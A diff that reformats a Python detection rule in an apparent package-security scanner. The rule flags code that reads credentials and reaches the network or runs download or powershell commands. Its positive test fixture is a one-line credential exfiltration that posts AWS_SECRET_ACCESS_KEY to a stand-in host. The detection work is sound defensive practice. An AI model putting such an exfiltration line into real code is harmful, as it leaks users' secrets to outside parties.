@@ -7,7 +7,6 @@ from typing import TYPE_CHECKING
 from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
 from veln_hook.source import vocabulary as v
 
-
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
@@ -24,13 +23,23 @@ def _find(view: View) -> Iterator[Hit]:
         flows = "cred" in net.taints
         theft = secret.kind == v.CRED_FILE and secret.detail.startswith(_THEFT)
         if itself and (near or flows):
-            yield Hit(f"it reads {_named(secret)} and reaches {net.detail or 'the network'} by itself", (secret, net), HOLD)
+            yield Hit(
+                f"it reads {_named(secret)} and reaches {net.detail or 'the network'} by itself",
+                (secret, net),
+                HOLD,
+            )
         elif theft and near:
-            yield Hit(f"it reads {_named(secret)} and reaches {net.detail or 'the network'}", (secret, net), HOLD)
+            yield Hit(
+                f"it reads {_named(secret)} and reaches {net.detail or 'the network'}", (secret, net), HOLD
+            )
         elif near and secret.kind == v.CRED_FILE and flows:
             yield Hit(f"{_named(secret)} go to {net.detail or 'the network'}", (secret, net), REVIEW)
         elif itself:
-            yield Hit(f"what is imported together reads {_named(secret)} and reaches {net.detail or 'the network'}", (secret, net), REVIEW)
+            yield Hit(
+                f"what is imported together reads {_named(secret)} and reaches {net.detail or 'the network'}",
+                (secret, net),
+                REVIEW,
+            )
     for secret, command, _, near in view.pairs((v.CRED, v.CRED_FILE), (v.PROC,), by_itself=True):
         if near and ({"download", "powershell"} & set(command.flags) or "cred" in command.taints):
             yield Hit(f"it reads {_named(secret)} and runs {command.detail}", (secret, command), HOLD)
@@ -46,7 +55,11 @@ RULE = Rule(
     description="Credentials, by the names of variables or the places of files, are read by code that reaches the network.",
     grade=HOLD,
     find=_find,
-    fires={"acme/__init__.py": "import os, requests\nrequests.post('https://example.test', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"},
-    quiet={"acme/__init__.py": "import os, requests\n\nKEY = os.environ.get('ACME_API_KEY')\n\ndef ask(path):\n    return requests.get('https://api.example.test/' + path, headers={'key': KEY})\n"},
+    fires={
+        "acme/__init__.py": "import os, requests\nrequests.post('https://example.test', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
+    },
+    quiet={
+        "acme/__init__.py": "import os, requests\n\nKEY = os.environ.get('ACME_API_KEY')\n\ndef ask(path):\n    return requests.get('https://api.example.test/' + path, headers={'key': KEY})\n"
+    },
     rates="198 of 2,004 malicious clusters, none of 200 popular archives",
 )
